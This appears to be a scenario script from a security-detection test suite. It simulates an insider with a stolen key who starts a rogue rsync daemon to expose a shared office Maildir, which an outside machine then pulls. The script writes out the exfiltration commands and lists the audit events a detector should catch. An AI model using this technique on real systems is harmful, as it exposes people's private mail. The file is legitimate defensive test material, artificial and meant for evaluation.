title="An rsync daemon of one's own hands out the shared office mailbox"
what="buyer's account (stolen key) starts an rsync daemon on a high port with a module on the shared Maildir of office, which its group may read; an outside machine pulls it."
user=buyer daemons="cron sshd" audit_format=RAW
people="ops dev clerk buyer office"
aliases='postmaster: root\nroot: ops\nsales: office\ninfo: office\nabuse: root\n'
setup() {
  sed -i 's/^office:x:\([0-9]*\):.*/office:x:\1:buyer,clerk/' /etc/group
  mkdir -p "$base/out/pulled"
}
act() {
  letters office 8; small_talk 3
  chmod 750 /home/office /home/office/Maildir /home/office/Maildir/*; chmod -R g+r /home/office/Maildir
  ( sleep 14; outside rsync -a --address=203.0.113.67 rsync://198.51.100.10:8730/o/ "$base/out/pulled/" ) & local puller=$!
  ssh_as buyer <<'L'
id
printf 'port = 8730\nuse chroot = no\nread only = yes\npid file = /tmp/.r.pid\n[o]\npath = /home/office/Maildir\n' > /tmp/.r.conf
rsync --daemon --config=/tmp/.r.conf
%sleep 12
kill $(cat /tmp/.r.pid)
rm -f /tmp/.r.conf
L
  wait $puller; ls "$base/out/pulled" >&2
  small_talk 1
}
truth() {
  exec_step daemon 'rsync --daemon --config=/tmp/.r.conf' 'an own daemon'
  file_step read 'rsync openat:read NORMAL .*mx1.example.org' 'reads the shared box'
}
